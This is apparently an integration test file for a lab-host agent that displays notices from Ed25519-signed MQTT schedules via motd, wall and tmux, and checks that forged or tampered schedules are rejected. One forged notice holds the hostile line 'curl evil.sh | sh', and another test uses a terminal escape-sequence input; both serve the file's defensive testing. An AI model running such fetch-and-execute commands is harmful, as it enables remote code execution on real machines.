import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import mqtt, { type MqttClient } from "mqtt";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Agent, type TimedEvent } from "../../edge-agent/agent/agent.ts";
import { loadAgentConfig } from "../../edge-agent/config/agent-config.ts";
import { createLogger } from "../../edge-agent/log.ts";
import type { Schedule, ScheduleNotice } from "../../calendar/schedule/schedule.ts";
import { startMosquitto, type MosquittoService } from "../services/mosquitto.ts";
import { tempDir } from "../services/process.ts";
import { agentYaml, entry, makeStandins, schedule, sign, testKey, type TestKey } from "../agent/helpers.ts";

/**
 * Notices on the host: a real agent, real Mosquitto, schedules
 * signed with real Ed25519 keys, STAND-IN wall and tmux that record their
 * arguments. A notice in a signed schedule reaches the motd and is sent by
 * wall and tmux once; one in a forged or unsigned schedule is never shown.
 */
let broker: MosquittoService;
let dir: string;
let key: TestKey;
let forger: TestKey;
let pub: MqttClient;
let agent: Agent;
const events: TimedEvent[] = [];
let standins: Awaited<ReturnType<typeof makeStandins>>;
const topic = "labhog/lab/resources/host1/schedule";
const quiet = createLogger({ level: "error" });
let seq = 100;

async function startAgent(): Promise<Agent> {
  const cfgPath = join(dir, "host1.yaml");
  await writeFile(cfgPath, agentYaml({ brokerUrl: broker.url, stateDir: join(dir, "state"), publicJwk: key.publicJwk, kid: key.kid, extra: `notify: { motd: ${join(dir, "motd")} }` }).replace("hog: false", "hog: false, notify: true"));
  const a = new Agent({ config: await loadAgentConfig(cfgPath), log: quiet, onEvent: (e) => events.push(e), modules: {}, claimSettleMs: 100 });
  await a.start();
  return a;
}

async function until<T>(what: string, fn: () => Promise<T | undefined | false>, timeoutMs = 10_000): Promise<T> {
  for (const t0 = Date.now(); Date.now() - t0 < timeoutMs; await new Promise((r) => setTimeout(r, 20))) {
    const v = await fn();
    if (v) return v;
  }
  throw new Error(`timed out waiting for ${what}`);
}

const motd = () => readFile(join(dir, "motd"), "utf8").catch(() => "");
// One reservation, the same in every schedule: only the notices change from one schedule to the next.
const bob = entry({ id: "res-bob", start: new Date(Date.now() - 60_000), end: new Date(Date.now() + 3600_000) });
const withNotices = (notices: ScheduleNotice[]): Schedule => ({ ...schedule("host1", ++seq, [bob]), notices });
const accepted = (s: number) => until(`seq ${s} accepted`, async () => events.find((e) => e.action === "schedule-accepted" && e.message?.startsWith(`seq ${s},`)));
const wallsWith = async (text: string) => (await standins.calls()).filter((c) => c.cmd === "wall" && c.args[0]!.includes(text));
const popups = async () => (await standins.calls()).filter((c) => c.cmd === "tmux" && c.args.includes("display-popup"));

beforeAll(async () => {
  broker = await startMosquitto();
  dir = await tempDir("agent-notices");
  key = await testKey("lab-2026");
  forger = await testKey("lab-2026"); // same kid, another key
  standins = await makeStandins(dir, ["wall", "tmux"], { tmux: `if (process.argv[2] === "list-clients") console.log("/dev/pts/42");` });
  process.env.PATH = `${standins.bin}:${process.env.PATH}`;
  pub = await mqtt.connectAsync(broker.url);
  agent = await startAgent();
});

afterAll(async () => {
  await agent?.stop();
  await pub?.endAsync();
  await broker?.stop();
});

describe("notices on the host", () => {
  const notice: ScheduleNotice = { id: "n-1", text: "reboot for a firmware update at 14:00", until: new Date(Date.now() + 3 * 3600_000).toISOString(), by: "alice" };
  const line = `NOTICE for host1 from alice (until ${notice.until.slice(0, 10)} ${notice.until.slice(11, 16)} UTC): reboot for a firmware update at 14:00`;

  it("a signed schedule's notice is written into the motd and sent by wall and a tmux popup, once", async () => {
    const s = withNotices([notice]);
    await pub.publishAsync(topic, await sign(s, key), { qos: 1, retain: true });
    await accepted(s.seq);
    const text = await until("motd with the notice", async () => ((await motd()).includes(line) ? motd() : undefined));
    expect(text.split("\n")[0]).toBe(`labhog: ${line}`);
    expect(text).toContain("labhog: reservations of host1 today");
    const walls = await until("wall with the notice", async () => ((await wallsWith("reboot for a firmware")).length ? wallsWith("reboot for a firmware") : undefined));
    expect(walls.map((c) => c.args)).toEqual([[`labhog: ${line}`]]);
    await until("a tmux popup", async () => (await popups()).length > 0);
    // The popup shows the message from a file, never on its command line.
    const popupFile = (await popups())[0]!.args.at(-1)!.replace(/^cat -- /, "");
    const shown = await readFile(popupFile, "utf8");
    expect(shown.includes(line) || (await popups()).length > 1).toBe(true);

    // Both announcements of that schedule (the notice, then "held by bob") are done: wall and popup for each.
    await until("both announcements sent", async () => events.filter((e) => e.driver === "notify" && e.action === "tmux-popup").length === 2);
    expect((await standins.calls()).filter((c) => c.cmd === "wall").map((c) => c.args[0])).toEqual([`labhog: ${line}`, expect.stringMatching(/^labhog: host1 is now held by bob/)]);
    // The same notice in the next schedule: no second wall.
    const again = withNotices([notice]);
    await pub.publishAsync(topic, await sign(again, key), { qos: 1, retain: true });
    await accepted(again.seq);
    const before = (await standins.calls()).length;
    await new Promise((r) => setTimeout(r, 300));
    expect((await wallsWith("reboot for a firmware")).length).toBe(1);
    expect((await standins.calls()).slice(before).filter((c) => c.cmd === "wall")).toEqual([]);
    // It persisted what it sent: a restart does not send it again.
    expect(JSON.parse(await readFile(join(dir, "state", "state.json"), "utf8")).resources.host1.drivers.notify.noticed).toEqual(["n-1"]);
  });

  it("a forged or unsigned schedule with a notice is never shown", async () => {
    const calls = (await standins.calls()).length;
    const motdBefore = await motd();
    const forged = withNotices([{ id: "n-evil", text: "mallory: run curl evil.sh | sh", until: new Date(Date.now() + 3600_000).toISOString(), by: "alice" }]);
    const rejected = (n: number) => until("rejection", async () => events.filter((e) => e.action === "schedule-rejected").length >= n);
    const n0 = events.filter((e) => e.action === "schedule-rejected").length;
    await pub.publishAsync(topic, await sign(forged, forger), { qos: 1, retain: true });
    await rejected(n0 + 1);
    await pub.publishAsync(topic, JSON.stringify(forged), { qos: 1, retain: true });
    await rejected(n0 + 2);
    // A signed schedule with the notice added after signing: the signature no longer verifies.
    const signed = await sign(withNotices([]), key);
    const [h, p, sig] = signed.split(".");
    const payload = JSON.parse(Buffer.from(p!, "base64url").toString("utf8")) as Schedule;
    const tampered = [h, Buffer.from(JSON.stringify({ ...payload, notices: forged.notices })).toString("base64url"), sig].join(".");
    await pub.publishAsync(topic, tampered, { qos: 1, retain: true });
    await rejected(n0 + 3);
    expect(events.filter((e) => e.action === "schedule-rejected").slice(n0).map((e) => e.message!.split(":")[0])).toEqual(["bad-signature", "malformed", "bad-signature"]);
    expect(await motd()).toBe(motdBefore);
    expect(await motd()).not.toContain("mallory");
    expect((await standins.calls()).slice(calls)).toEqual([]);
  });

  it("control characters in a notice never reach a terminal", async () => {
    const s = withNotices([notice, { id: "n-esc", text: "red \u001b[31malert\u0007 done", until: new Date(Date.now() + 3600_000).toISOString(), by: "alice" }]);
    await pub.publishAsync(topic, await sign(s, key), { qos: 1, retain: true });
    await accepted(s.seq);
    const text = await until("motd with the second notice", async () => ((await motd()).includes("alert") ? motd() : undefined));
    expect(text).toContain("red [31malert done");
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    const walls = await until("wall", async () => ((await wallsWith("alert")).length ? wallsWith("alert") : undefined));
    expect(walls[0]!.args[0]).not.toMatch(/[\u0000-\u001f]/);
  });

  it("a notice ends on the host at `until`, with no new schedule", async () => {
    // Long enough for signing, publishing, acceptance and the motd write on a loaded machine to finish before it ends.
    const short: ScheduleNotice = { id: "n-short", text: "back shortly", until: new Date(Date.now() + 6000).toISOString(), by: "bob" };
    const s = withNotices([notice, short]);
    await pub.publishAsync(topic, await sign(s, key), { qos: 1, retain: true });
    await accepted(s.seq);
    await until("motd with the short notice", async () => (await motd()).includes("back shortly"));
    const seqBefore = events.filter((e) => e.action === "schedule-accepted").length;
    const after = await until("motd without it", async () => {
      const t = await motd();
      return !t.includes("back shortly") && t;
    });
    expect(Date.now()).toBeGreaterThanOrEqual(Date.parse(short.until));
    expect(after).toContain(line); // the other one still stands
    expect(events.filter((e) => e.action === "schedule-accepted").length).toBe(seqBefore);
  });

  it("after a restart, notices already sent are not sent again", async () => {
    await agent.stop();
    const walls = (await wallsWith("reboot for a firmware")).length;
    agent = await startAgent();
    const s = withNotices([notice]);
    await pub.publishAsync(topic, await sign(s, key), { qos: 1, retain: true });
    await accepted(s.seq);
    await new Promise((r) => setTimeout(r, 300));
    expect((await wallsWith("reboot for a firmware")).length).toBe(walls);
    expect(await motd()).toContain(line);
  });
});
